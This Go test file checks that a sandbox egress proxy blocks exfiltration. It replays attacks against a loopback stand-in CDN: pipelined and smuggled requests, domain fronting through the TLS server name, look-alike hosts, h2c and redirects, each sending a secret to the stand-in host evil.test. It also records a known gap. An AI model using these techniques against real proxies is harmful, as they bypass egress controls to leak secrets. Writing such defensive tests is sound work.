package proxy

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hookctl/hookctl/internal/loopback"
	"github.com/hookctl/hookctl/sandbox/egress"
)

// The attacks of issue 24 on edit mode's egress proxy, each run for real against a stand-in CDN:
// one address serving the allowed host (registry.test) and the attacker's (evil.test), picking
// by the Host of a plain request and by the TLS server name of an encrypted one, as shared
// hosting does. Each attack's control sends the same bytes to the CDN without the proxy, and
// the attacker's host gets the secret; through the proxy it gets nothing, and the proxy never
// resolves the name it refused.

// cdn is the stand-in: it records which virtual host each request reached, with its URI.
type cdn struct {
	port int
	addr string
	pool *x509.CertPool
	mu   sync.Mutex
	seen map[string][]string // virtual host → request URIs
}

const (
	allowedName = "registry.test"
	evilName    = "evil.test"
)

func newCDN(t *testing.T) *cdn { return newCDNRouting(t, false) }

// newCDNRouting is a CDN; with hostInsideTLS it picks an encrypted request's host by its Host
// header, as a CDN that terminates TLS with one certificate for both hosts may.
func newCDNRouting(t *testing.T, hostInsideTLS bool) *cdn {
	t.Helper()
	cert, pool := selfSigned(t, allowedName, evilName)
	d := &cdn{pool: pool, seen: map[string][]string{}}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	d.addr, d.port = l.Addr().String(), l.Addr().(*net.TCPAddr).Port
	tlsConf := &tls.Config{Certificates: []tls.Certificate{cert}}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// A lenient normaliser: a percent-encoded name is decoded, and the Cyrillic е of a
		// look-alike read as e.
		host := r.Host
		if h, err := url.PathUnescape(host); err == nil {
			host = h
		}
		host = strings.ReplaceAll(host, "\u0435", "e")
		vhost := canonicalHost(host)
		if h, _, err := net.SplitHostPort(host); err == nil {
			vhost = canonicalHost(h)
		}
		if r.TLS != nil && !hostInsideTLS {
			// Encrypted: the server name picks the host (none: the address's default, which
			// here is the attacker's).
			vhost = canonicalHost(r.TLS.ServerName)
			if vhost == "" {
				vhost = evilName
			}
		}
		body, _ := io.ReadAll(r.Body)
		d.mu.Lock()
		d.seen[vhost] = append(d.seen[vhost], r.URL.RequestURI()+" "+string(body))
		d.mu.Unlock()
		if vhost == allowedName && r.URL.Path == "/redirect" {
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		}
		fmt.Fprintf(w, "%s served %s", vhost, r.URL.Path)
	})}
	srv.Protocols = new(http.Protocols)
	srv.Protocols.SetHTTP1(true)
	srv.Protocols.SetUnencryptedHTTP2(true)
	go srv.Serve(&sniffListener{Listener: l, tls: tlsConf})
	t.Cleanup(func() { srv.Close() })
	return d
}

func (d *cdn) reached(vhost string) []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.seen[vhost]...)
}

// sniffListener hands the server a TLS connection where the client starts a handshake.
type sniffListener struct {
	net.Listener
	tls *tls.Config
}

func (l *sniffListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	br := bufio.NewReader(c)
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	b, _ := br.Peek(1)
	c.SetReadDeadline(time.Time{})
	pc := &peekedConn{Conn: c, br: br}
	if len(b) == 1 && b[0] == recordHandshake {
		return tls.Server(pc, l.tls), nil
	}
	return pc, nil
}

type peekedConn struct {
	net.Conn
	br *bufio.Reader
}

func (p *peekedConn) Read(b []byte) (int, error) { return p.br.Read(b) }

func selfSigned(t *testing.T, names ...string) (tls.Certificate, *x509.CertPool) {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	leaf, _ := x509.ParseCertificate(der)
	pool := x509.NewCertPool()
	pool.AddCert(leaf)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf}, pool
}

// countingResolver points every name at loopback and counts the questions, per name.
type countingResolver struct {
	mu    sync.Mutex
	asked map[string]int
}

func (r *countingResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.asked == nil {
		r.asked = map[string]int{}
	}
	r.asked[canonicalHost(host)]++
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

func (r *countingResolver) count(host string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.asked[host]
}

// frontingWorld is a CDN and a proxy that allows its registry (and, for the IP rows, its
// address), the user's entries, which may resolve to loopback; unnamedTLS are names on
// [network] tls_unnamed, on the CDN's port.
type frontingWorld struct {
	cdn   *cdn
	res   *countingResolver
	proxy string
	ev    *events
}

func newFrontingWorld(t *testing.T, unnamedTLS ...string) *frontingWorld {
	d := newCDN(t)
	res := &countingResolver{}
	var unnamed []string
	for _, h := range unnamedTLS {
		unnamed = append(unnamed, fmt.Sprintf("%s:%d", h, d.port))
	}
	pol, err := egress.New(nil, []string{fmt.Sprintf("%s:%d", allowedName, d.port), fmt.Sprintf("127.0.0.1:%d", d.port)}, unnamed)
	if err != nil {
		t.Fatal(err)
	}
	addr, ev := serve(t, &Proxy{Policy: pol, Resolver: res})
	return &frontingWorld{cdn: d, res: res, proxy: addr, ev: ev}
}

func (w *frontingWorld) at(host string) string { return fmt.Sprintf("%s:%d", host, w.cdn.port) }

// tunnelTo opens a CONNECT tunnel through the proxy; ok says it was answered 200.
func (w *frontingWorld) tunnelTo(t *testing.T, target string) (net.Conn, bool) {
	t.Helper()
	resp, c, br := connect(t, w.proxy, target)
	return &peekedConn{Conn: c, br: br}, resp.StatusCode == 200
}

func (w *frontingWorld) direct(t *testing.T) net.Conn {
	t.Helper()
	c, err := net.Dial("tcp", w.cdn.addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// exchange writes raw to c and reads what comes back until the connection ends or goes quiet.
func exchange(c net.Conn, raw string) string {
	io.WriteString(c, raw)
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	var b strings.Builder
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			return b.String()
		}
		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	}
}

// tlsGet speaks TLS over c, naming server (none if ""), and sends one request with host.
func tlsGet(c net.Conn, pool *x509.CertPool, server, host, path string) (string, error) {
	conf := &tls.Config{ServerName: server, RootCAs: pool}
	if server == "" {
		conf.InsecureSkipVerify = true
	}
	tc := tls.Client(c, conf)
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if err := tc.Handshake(); err != nil {
		return "", err
	}
	return exchange(tc, "GET "+path+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n"), nil
}

func leakPath() string { return "/collect?k=" + secret }

// TestProxyJudgesEveryRequest (issue 24): a second request on a kept-alive or pipelined
// connection is judged as the first was, whatever form it takes.
func TestProxyJudgesEveryRequest(t *testing.T) {
	w := newFrontingWorld(t)
	allowed, evil := w.at(allowedName), w.at(evilName)
	first := "GET http://" + allowed + "/ok HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n"
	for _, row := range []struct {
		name string
		// raw is sent to the proxy as it is, and (the control) to the CDN.
		raw string
		// sequential: wait for the first answer before sending the rest (keep-alive), else
		// send everything at once (pipelining).
		sequential bool
		want       string
	}{
		{"keep-alive: origin-form with Host evil.test (the issue's attack)",
			first + "GET " + leakPath() + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", true, "names an absolute http:// URL"},
		{"keep-alive: absolute-form to evil.test",
			first + "GET http://" + evil + leakPath() + " HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n", true, "not an allowed host"},
		{"pipelined: absolute-form to evil.test",
			first + "GET http://" + evil + leakPath() + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false, "not an allowed host"},
		{"pipelined: origin-form with Host evil.test",
			first + "GET " + leakPath() + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false, "names an absolute http:// URL"},
		{"a request hidden in a chunked body, then the connection reused",
			"POST http://" + allowed + "/upload HTTP/1.1\r\nHost: " + allowed + "\r\nTransfer-Encoding: chunked\r\n\r\n" +
				"0\r\n\r\nGET " + leakPath() + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false, "names an absolute http:// URL"},
		{"Content-Length and chunked both (smuggling)",
			"POST http://" + allowed + "/upload HTTP/1.1\r\nHost: " + allowed + "\r\nContent-Length: 62\r\nTransfer-Encoding: chunked\r\n\r\n" +
				"0\r\n\r\nGET " + leakPath() + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false, ""},
		{"an IDNA look-alike, percent-encoded",
			first + "GET http://%D0%B5vil.test:" + fmt.Sprint(w.cdn.port) + leakPath() + " HTTP/1.1\r\nHost: x\r\n\r\n", true, "not an allowed host"},
		{"a Host with a trailing dot",
			first + "GET http://" + evilName + ".:" + fmt.Sprint(w.cdn.port) + leakPath() + " HTTP/1.1\r\nHost: x\r\n\r\n", true, "not an allowed host"},
		{"a userinfo that names the registry",
			first + "GET http://" + allowed + "@" + evil + leakPath() + " HTTP/1.1\r\nHost: x\r\n\r\n", true, "not an allowed host"},
		{"h2c with prior knowledge",
			"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", false, "h2c"},
	} {
		t.Run(row.name, func(t *testing.T) {
			// The control: the same bytes to the CDN, without the proxy.
			before := len(w.cdn.reached(evilName))
			send := func(c net.Conn) string {
				if !row.sequential {
					return exchange(c, row.raw)
				}
				i := strings.Index(row.raw, "\r\n\r\n") + 4
				out := exchange(c, row.raw[:i])
				return out + exchange(c, row.raw[i:])
			}
			if !strings.HasPrefix(row.raw, "PRI") {
				send(w.direct(t))
				if len(w.cdn.reached(evilName)) == before {
					t.Fatalf("control: the attacker's host was not reached without the proxy; the test proves nothing")
				}
			} else if !h2cReachesEvil(t, w, w.direct(t)) {
				t.Fatalf("control: h2c did not reach the attacker's host without the proxy")
			}
			before = len(w.cdn.reached(evilName))
			c, err := net.Dial("tcp", w.proxy)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			out := send(c)
			if got := w.cdn.reached(evilName); len(got) != before {
				t.Errorf("through the proxy the attacker's host was reached: %q\n%s", got[before:], out)
			}
			if row.want != "" && !strings.Contains(out, row.want) {
				t.Errorf("the answer does not say %q:\n%s", row.want, out)
			}
		})
	}
	if n := w.res.count(evilName); n != 0 {
		t.Errorf("the proxy resolved %s %d times", evilName, n)
	}
	if len(w.cdn.reached(allowedName)) == 0 {
		t.Error("the registry was never reached through the proxy: the rows prove nothing about what passes")
	}
}

// h2cReachesEvil sends an HTTP/2 request for evil.test in clear over c, with prior knowledge.
func h2cReachesEvil(t *testing.T, w *frontingWorld, c net.Conn) bool {
	p := new(http.Protocols)
	p.SetUnencryptedHTTP2(true)
	tr := &http.Transport{Protocols: p, DialContext: func(context.Context, string, string) (net.Conn, error) { return c, nil }}
	defer tr.CloseIdleConnections()
	before := len(w.cdn.reached(evilName))
	resp, err := (&http.Client{Transport: tr, Timeout: 5 * time.Second}).Get("http://" + w.at(evilName) + leakPath())
	if err == nil {
		resp.Body.Close()
	}
	return len(w.cdn.reached(evilName)) > before
}

// TestTunnelJudgesItsContent (issue 24): a CONNECT admitted for the registry carries only the
// registry: the TLS server name must be the registry's, plain HTTP in it must name the
// registry, HTTP/2 in clear is refused, and bytes the proxy cannot read are refused.
func TestTunnelJudgesItsContent(t *testing.T) {
	w := newFrontingWorld(t)
	allowed := w.at(allowedName)
	for _, row := range []struct {
		name   string
		target string
		// attack runs over a connection to the CDN: through the tunnel, or (the control)
		// directly.
		attack func(c net.Conn) string
		want   string // in the proxy's event
	}{
		{"TLS naming evil.test (domain fronting)", allowed,
			func(c net.Conn) string { out, _ := tlsGet(c, w.cdn.pool, evilName, evilName, leakPath()); return out },
			`names "evil.test"`},
		{"TLS naming evil.test. with a trailing dot", allowed,
			func(c net.Conn) string {
				out, _ := tlsGet(c, w.cdn.pool, evilName+".", evilName, leakPath())
				return out
			},
			`names "evil.test`},
		{"TLS naming no server", allowed,
			func(c net.Conn) string { out, _ := tlsGet(c, w.cdn.pool, "", evilName, leakPath()); return out },
			"names no server"},
		{"TLS to the allowed address, naming evil.test", fmt.Sprintf("127.0.0.1:%d", w.cdn.port),
			func(c net.Conn) string { out, _ := tlsGet(c, w.cdn.pool, evilName, evilName, leakPath()); return out },
			`names "evil.test"`},
		{"plain HTTP in the tunnel, Host evil.test", allowed,
			func(c net.Conn) string {
				return exchange(c, "GET "+leakPath()+" HTTP/1.1\r\nHost: "+w.at(evilName)+"\r\nConnection: close\r\n\r\n")
			}, "a request in it names evil.test"},
		{"plain HTTP in the tunnel, the second request's Host evil.test", allowed,
			func(c net.Conn) string {
				out := exchange(c, "GET /ok HTTP/1.1\r\nHost: "+allowed+"\r\n\r\n")
				return out + exchange(c, "GET "+leakPath()+" HTTP/1.1\r\nHost: "+evilName+"\r\n\r\n")
			}, "a request in it names evil.test"},
		{"plain HTTP in the tunnel, absolute-form to evil.test", allowed,
			func(c net.Conn) string {
				return exchange(c, "GET http://"+w.at(evilName)+leakPath()+" HTTP/1.1\r\nHost: "+allowed+"\r\n\r\n")
			}, "a request in it names evil.test"},
		{"plain HTTP in the tunnel, an IDNA look-alike Host, percent-encoded", allowed,
			func(c net.Conn) string {
				return exchange(c, "GET "+leakPath()+" HTTP/1.1\r\nHost: %D0%B5vil.test\r\nConnection: close\r\n\r\n")
			}, "a request in it names"},
		{"HTTP/2 in clear in the tunnel", allowed,
			func(c net.Conn) string {
				if h2cReachesEvil(t, w, c) {
					return "reached"
				}
				return ""
			}, "h2c"},
	} {
		t.Run(row.name, func(t *testing.T) {
			before := len(w.cdn.reached(evilName))
			row.attack(w.direct(t))
			if len(w.cdn.reached(evilName)) == before {
				t.Fatalf("control: the attacker's host was not reached without the proxy; the test proves nothing")
			}
			before = len(w.cdn.reached(evilName))
			evs := len(w.ev.wait(t, 0))
			c, ok := w.tunnelTo(t, row.target)
			if !ok {
				t.Fatalf("CONNECT %s was refused", row.target)
			}
			out := row.attack(c)
			c.Close()
			if got := w.cdn.reached(evilName); len(got) != before {
				t.Errorf("through the proxy the attacker's host was reached: %q\n%s", got[before:], out)
			}
			found := false
			for _, e := range w.ev.wait(t, evs+1)[evs:] {
				found = found || !e.Allowed && strings.Contains(e.Reason, row.want)
			}
			if !found {
				t.Errorf("no refusal saying %q: %+v", row.want, w.ev.wait(t, evs+1)[evs:])
			}
		})
	}
	if n := w.res.count(evilName); n != 0 {
		t.Errorf("the proxy resolved %s %d times", evilName, n)
	}
}

// TestTunnelAdmitsItsHost: what the registry's own clients send through a tunnel reaches it:
// TLS naming it (with or without a trailing dot, in any case), plain HTTP naming it, an SSH
// banner; and a TLS connection to an allowed address that names no server.
func TestTunnelAdmitsItsHost(t *testing.T) {
	w := newFrontingWorld(t)
	allowed := w.at(allowedName)
	for _, row := range []struct {
		name, target, want string
		send               func(c net.Conn) (string, error)
	}{
		{"TLS naming the registry", allowed, "registry.test served /pkg",
			func(c net.Conn) (string, error) { return tlsGet(c, w.cdn.pool, allowedName, allowedName, "/pkg") }},
		{"TLS naming REGISTRY.test.", allowed, "registry.test served /pkg",
			func(c net.Conn) (string, error) { return tlsGet(c, w.cdn.pool, "REGISTRY.test.", allowedName, "/pkg") }},
		{"TLS to the allowed address naming no server", fmt.Sprintf("127.0.0.1:%d", w.cdn.port), "served /pkg",
			func(c net.Conn) (string, error) { return tlsGet(c, w.cdn.pool, "", allowedName, "/pkg") }},
		{"TLS to the allowed address naming the registry, which is allowed too", fmt.Sprintf("127.0.0.1:%d", w.cdn.port), "registry.test served /pkg",
			func(c net.Conn) (string, error) { return tlsGet(c, w.cdn.pool, allowedName, allowedName, "/pkg") }},
		{"plain HTTP naming the registry, kept alive", allowed, "registry.test served /two",
			func(c net.Conn) (string, error) {
				out := exchange(c, "GET /one HTTP/1.1\r\nHost: "+allowedName+"\r\n\r\n")
				return out + exchange(c, "GET /two HTTP/1.1\r\nHost: "+allowed+"\r\n\r\n"), nil
			}},
	} {
		c, ok := w.tunnelTo(t, row.target)
		if !ok {
			t.Fatalf("%s: CONNECT refused", row.name)
		}
		out, err := row.send(c)
		if err != nil || !strings.Contains(out, row.want) {
			t.Errorf("%s: %v %q", row.name, err, out)
		}
		c.Close()
	}
	// An SSH client's banner goes to an echo server on the allowed port.
	echo := loopback.Echo(t)
	pol, _ := egress.New(nil, []string{echo}, nil)
	addr, _ := serve(t, &Proxy{Policy: pol})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if out := exchange(c, "CONNECT "+echo+" HTTP/1.1\r\n\r\nSSH-2.0-OpenSSH_9.2\r\n"); !strings.Contains(out, "echo: SSH-2.0-OpenSSH_9.2") {
		t.Errorf("ssh through the tunnel: %q", out)
	}
	// Anything else the proxy cannot read is refused.
	c2, _ := net.Dial("tcp", addr)
	defer c2.Close()
	if out := exchange(c2, "CONNECT "+echo+" HTTP/1.1\r\n\r\n\x00\x01binary"); strings.Contains(out, "echo:") {
		t.Errorf("an unreadable protocol went through: %q", out)
	}
}

// TestUnnamedTLSWhereTheUserSaysSo: a host on [network] tls_unnamed may be reached by TLS that
// names no server, or hides it (ECH); a differing name in clear is still refused, and other
// hosts still must name themselves.
func TestUnnamedTLSWhereTheUserSaysSo(t *testing.T) {
	w := newFrontingWorld(t, allowedName)
	allowed := w.at(allowedName)
	c, _ := w.tunnelTo(t, allowed)
	if out, err := tlsGet(c, w.cdn.pool, "", allowedName, "/pkg"); err != nil || !strings.Contains(out, "served /pkg") {
		t.Errorf("no server name, on tls_unnamed: %v %q", err, out)
	}
	c, _ = w.tunnelTo(t, allowed)
	if out, _ := tlsGet(c, w.cdn.pool, evilName, evilName, leakPath()); strings.Contains(out, "served") {
		t.Errorf("another server name, on tls_unnamed: %q", out)
	}
	for _, row := range []struct {
		name    string
		unnamed []string
		want    bool
	}{
		{"ECH, on tls_unnamed", []string{allowedName}, true},
		{"ECH, not on tls_unnamed", nil, false},
	} {
		w := newFrontingWorld(t, row.unnamed...)
		// The upstream gets the ClientHello (and, a handshake it cannot finish, fails): what
		// matters is whether the proxy let the hello go.
		c, _ := w.tunnelTo(t, w.at(allowedName))
		hello := clientHelloRecord(t, "public.example", true)
		c.Write(hello)
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		buf := make([]byte, 5)
		_, err := io.ReadFull(c, buf)
		passed := err == nil && buf[0] == 21 // the CDN's TLS alert: the hello reached it
		if passed != row.want {
			t.Errorf("%s: passed %v (%v %x)", row.name, passed, err, buf)
		}
	}
}

// clientHelloRecord is a ClientHello naming server, with an ECH extension if ech, as Go's client
// writes one.
func clientHelloRecord(t *testing.T, server string, ech bool) []byte {
	t.Helper()
	a, b := net.Pipe()
	go func() {
		tls.Client(a, &tls.Config{ServerName: server, InsecureSkipVerify: true}).Handshake()
	}()
	br := bufio.NewReader(b)
	h, err := readClientHello(br)
	a.Close()
	b.Close()
	if err != nil {
		t.Fatal(err)
	}
	raw := h.raw
	if !ech {
		return raw
	}
	// Add an encrypted_client_hello extension (its payload is opaque to the proxy): the
	// record, the handshake message and the extensions grow by its 4+4 bytes.
	ext := []byte{0xfe, 0x0d, 0, 4, 0, 1, 2, 3}
	out := append(append([]byte(nil), raw...), ext...)
	grow := func(at, size int) {
		v := 0
		for i := 0; i < size; i++ {
			v = v<<8 | int(out[at+i])
		}
		v += len(ext)
		for i := size - 1; i >= 0; i-- {
			out[at+i] = byte(v)
			v >>= 8
		}
	}
	grow(3, 2) // record length
	grow(6, 3) // handshake length
	// The extensions' length: after version, random, session id, suites, compression.
	p := 5 + 4 + 2 + 32
	p += 1 + int(out[p])
	p += 2 + (int(out[p])<<8 | int(out[p+1]))
	p += 1 + int(out[p])
	grow(p, 2)
	if h, err := readClientHello(bufio.NewReader(strings.NewReader(string(out)))); err != nil || !h.ech || h.serverName != server {
		t.Fatalf("the ECH hello reads as %+v %v", h, err)
	}
	return out
}

// TestRedirectToAnotherHost: a redirect is a new request, judged on its own: the registry's
// redirect to evil.test, followed by the client, is refused, in clear and in TLS.
func TestRedirectToAnotherHost(t *testing.T) {
	w := newFrontingWorld(t)
	for _, scheme := range []string{"http", "https"} {
		to := scheme + "://" + w.at(evilName) + leakPath()
		from := scheme + "://" + w.at(allowedName) + "/redirect?to=" + to
		// The control: a client that reaches the CDN for both names follows to the attacker.
		direct := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: w.cdn.pool},
			DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, "tcp", w.cdn.addr)
			}}
		before := len(w.cdn.reached(evilName))
		if resp, err := (&http.Client{Transport: direct}).Get(from); err == nil {
			resp.Body.Close()
		}
		direct.CloseIdleConnections()
		if len(w.cdn.reached(evilName)) == before {
			t.Fatalf("%s control: the redirect did not reach the attacker", scheme)
		}
		before = len(w.cdn.reached(evilName))
		proxyURL, _ := url.Parse("http://" + w.proxy)
		proxied := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: w.cdn.pool}, Proxy: http.ProxyURL(proxyURL)}
		resp, err := (&http.Client{Transport: proxied}).Get(from)
		if err == nil {
			resp.Body.Close()
		}
		proxied.CloseIdleConnections()
		if err == nil && resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: following the redirect through the proxy: %s", scheme, resp.Status)
		}
		if got := w.cdn.reached(evilName); len(got) != before {
			t.Errorf("%s: the redirect reached the attacker through the proxy: %q", scheme, got[before:])
		}
	}
	if n := w.res.count(evilName); n != 0 {
		t.Errorf("the proxy resolved %s %d times", evilName, n)
	}
}

// TestResidualHostInsideTLS documents, by running it, what the proxy cannot see: a tunnel whose
// TLS names the allowed host, and whose encrypted request names another in its Host header (or
// HTTP/2's :authority), reaches that other host on a CDN that routes by the Host inside TLS.
// docs/decisions/0007 states it in the words of Claude Code's own sandbox documentation.
// Should the proxy ever see inside TLS, this test fails and the docs change with it.
func TestResidualHostInsideTLS(t *testing.T) {
	d := newCDNRouting(t, true)
	pol, _ := egress.New(nil, []string{fmt.Sprintf("%s:%d", allowedName, d.port)}, nil)
	addr, _ := serve(t, &Proxy{Policy: pol, Resolver: &countingResolver{}})
	w := &frontingWorld{cdn: d, proxy: addr}
	c, ok := w.tunnelTo(t, w.at(allowedName))
	if !ok {
		t.Fatal("CONNECT refused")
	}
	out, err := tlsGet(c, d.pool, allowedName, evilName, leakPath())
	if err != nil || !strings.Contains(out, "evil.test served /collect") {
		t.Errorf("the residual risk did not show (%v %q): update docs/decisions/0007", err, out)
	}
}

// FuzzClientHello: whatever a tunnel's client sends, reading its ClientHello ends without
// panicking, within its cap, and a name it reads is printable ASCII.
func FuzzClientHello(f *testing.F) {
	a, b := net.Pipe()
	go tls.Client(a, &tls.Config{ServerName: "registry.npmjs.org", InsecureSkipVerify: true}).Handshake()
	h, err := readClientHello(bufio.NewReader(b))
	a.Close()
	b.Close()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(h.raw)
	f.Add(h.raw[:len(h.raw)/2])
	f.Add([]byte("\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		h, err := readClientHello(bufio.NewReader(strings.NewReader(string(data))))
		if err != nil {
			return
		}
		if len(h.raw) > maxClientHello {
			t.Fatalf("read %d bytes", len(h.raw))
		}
		for _, c := range []byte(h.serverName) {
			if c <= ' ' || c >= 0x7f {
				t.Fatalf("server name %q", h.serverName)
			}
		}
	})
}
